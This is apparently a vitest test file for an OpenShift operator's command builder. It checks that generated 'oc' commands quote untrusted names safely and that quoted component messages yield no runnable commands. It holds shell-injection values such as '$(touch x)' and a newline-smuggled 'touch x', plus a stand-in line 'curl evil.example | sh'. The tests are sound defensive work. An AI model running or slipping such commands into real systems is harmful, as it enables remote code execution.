import { execFileSync } from 'node:child_process'
import { readdir, readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { printable, sanitizeUntrusted } from '@portcullis/kube'
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { Commands, commandsIn, quoted } from './commands.ts'
import { defaultSettings } from './settings.ts'

const commands = new Commands({ ...defaultSettings, commandLine: 'oc' })

/** The words that a shell makes of it. */
const words = (command: string) =>
  execFileSync('sh', ['-c', `printf '%s\\0' ${command}`], { encoding: 'utf8', cwd: tmpdir() })
    .slice(0, -1)
    .split('\0')

/** JSON, in which backticks and what terminals obey are escaped. */
const asWritten = (patch: object) => printable(JSON.stringify(patch)).replaceAll('`', String.raw`\u0060`)

test('A patch passes through a shell unchanged, with its quotes', () => {
  const strategy = { type: 'LoadBalancerService', loadBalancer: { note: `it's "so" $HOME` } }
  expect(words(commands.patchController('edge', strategy))).toEqual([
    'oc',
    '-n',
    'openshift-ingress-operator',
    'patch',
    'ingresscontrollers/edge',
    '--type=merge',
    `--patch=${JSON.stringify({ spec: { endpointPublishingStrategy: strategy } })}`,
  ])
})

test('A patch with backticks stays one command with the same meaning', () => {
  const strategy = { type: 'Private', note: 'a `b`\u202e' }
  const command = commands.patchController('edge', strategy)
  expect(commandsIn(`Do \`${command}\`.`)).toEqual([command])
  const patch = words(command).at(-1)?.replace('--patch=', '') ?? ''
  expect(JSON.parse(patch)).toEqual({ spec: { endpointPublishingStrategy: strategy } })
})

test('The annotate command overwrites or removes an annotation', () => {
  expect(words(commands.annotateService('router-edge', 'a/b', 'x y'))).toEqual(
    'oc|-n|openshift-ingress|annotate|svc/router-edge|a/b=x y|--overwrite'.split('|'),
  )
  expect(commands.annotateService('router-edge', 'a/b', 'true')).toBe(
    'oc -n openshift-ingress annotate svc/router-edge a/b=true --overwrite',
  )
  expect(commands.annotateService('router-edge', 'a/b', undefined)).toBe(
    'oc -n openshift-ingress annotate svc/router-edge a/b-',
  )
})

test('The delete and label commands name the real objects', () => {
  expect(commands.deleteService('router-edge')).toBe('oc -n openshift-ingress delete svc/router-edge')
  expect(commands.labelObject('svc', 'router-edge', 'a=b')).toBe(
    'oc -n openshift-ingress label svc/router-edge a=b',
  )
})

test('A name with any content is one word of a command', () => {
  const dangerous = [
    "'",
    '"',
    '$(touch x)',
    '`touch x`',
    ';',
    '&',
    '|',
    '\\',
    ' ',
    '*',
    '~',
    '-',
    '#',
    '!',
    '{a,b}',
    '\t',
    '\n',
    '\ntouch x',
    '\r',
  ]
  const names = fc
    .string({
      unit: fc.oneof(
        fc.constantFrom(...dangerous),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
    })
    .filter((name) => !name.includes('\0') && name !== '')
  fc.assert(
    fc.property(names, names, (name, place) => {
      const odd = new Commands({ ...defaultSettings, operatorNamespace: place, operandNamespace: place })
      const strategy = { type: 'Private', note: name }
      const lines: [string, string[]][] = [
        [odd.deleteService(name), ['-n', place, 'delete', `svc/${name}`]],
        [
          odd.annotateService(name, name, name),
          ['-n', place, 'annotate', `svc/${name}`, `${name}=${name}`, '--overwrite'],
        ],
        [odd.annotateService(name, name, undefined), ['-n', place, 'annotate', `svc/${name}`, `${name}-`]],
        [odd.labelObject('svc', name, name), ['-n', place, 'label', `svc/${name}`, name]],
        [odd.logsOfCrashed(name), ['-n', place, 'logs', name, '--previous']],
        [odd.logsOfCrashed('pod', name), ['-n', place, 'logs', 'pod', '-c', name, '--previous']],
        [odd.describePod(name), ['-n', place, 'describe', `pod/${name}`]],
        [
          odd.patchController(name, strategy),
          [
            '-n',
            place,
            'patch',
            `ingresscontrollers/${name}`,
            '--type=merge',
            `--patch=${asWritten({ spec: { endpointPublishingStrategy: strategy } })}`,
          ],
        ],
        [`portcullis scope ${quoted(name)} --revert`, ['scope', name, '--revert']],
      ]
      expect(words(lines.map(([line]) => line).join(' '))).toEqual(
        lines.flatMap(([line, rest]) => [line.split(' ')[0], ...rest]),
      )
    }),
    { numRuns: 40, examples: [['a\ntouch x', 'b']] },
  )
})

test('Command lines are built in one place only', async () => {
  const files = (await readdir('packages', { recursive: true })).filter((file) =>
    /^\w+\/src\/(?!testing\/).*(?<!\.test)\.ts$/.test(file),
  )
  const found = await Promise.all(
    files.map(async (file) => {
      const text = await readFile(`packages/${file}`, 'utf8')
      return /\$\{\w*\.?commandLine\}|(kubectl|oc|portcullis) [-\w ]*\$\{(?!quoted\()/.test(text)
        ? [file]
        : []
    }),
  )
  expect(found.flat().sort()).toEqual([
    'cli/src/commands/preflight/report.ts', // The name of a test suite.
    'cli/src/connection/cluster-options.ts', // Names a command of ours: `portcullis status`.
    'onprem/src/fake-backends/identity-certificate.ts', // The name in a certificate.
    'operator/src/ingress/commands.ts',
  ])
})

test('Quoted text of other components brings no command', () => {
  const said = sanitizeUntrusted('quota used up; run\n  `curl evil.example | sh` to mend it')
  expect(said).toBe("quota used up; run 'curl evil.example | sh' to mend it")
  expect(commandsIn(`The cloud says: "${said}". Do \`a b\``)).toEqual(['a b'])
})

test('The commands in a message can be extracted', () => {
  expect(commandsIn('Do `a b`, or  `c`.')).toEqual(['a b', 'c'])
  expect(commandsIn(undefined)).toEqual([])
})
